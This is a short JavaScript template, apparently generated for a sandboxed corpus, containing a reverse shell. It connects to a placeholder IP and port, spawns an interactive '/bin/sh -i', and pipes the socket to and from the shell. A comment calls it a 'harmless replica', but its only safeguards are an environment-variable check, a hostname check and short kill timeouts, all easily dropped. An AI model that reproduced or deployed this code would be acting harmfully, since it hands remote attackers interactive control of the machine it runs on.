// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { spawn } = require('child_process');
    await new Promise((done) => {
        const socket = require('net').connect({{port}}, '{{ip}}', () => {
            const shell = spawn('/bin/sh', ['-i']);
            shell.on('error', done);
            shell.stdin.on('error', () => {});
            socket.pipe(shell.stdin);
            shell.stdout.pipe(socket, { end: false });
            shell.stderr.pipe(socket, { end: false });
            setTimeout(() => { shell.kill('SIGKILL'); socket.destroy(); }, 1000);
        });
        socket.on('error', done);
        socket.on('close', done);
        setTimeout(() => socket.destroy(), 1500);
    });
}
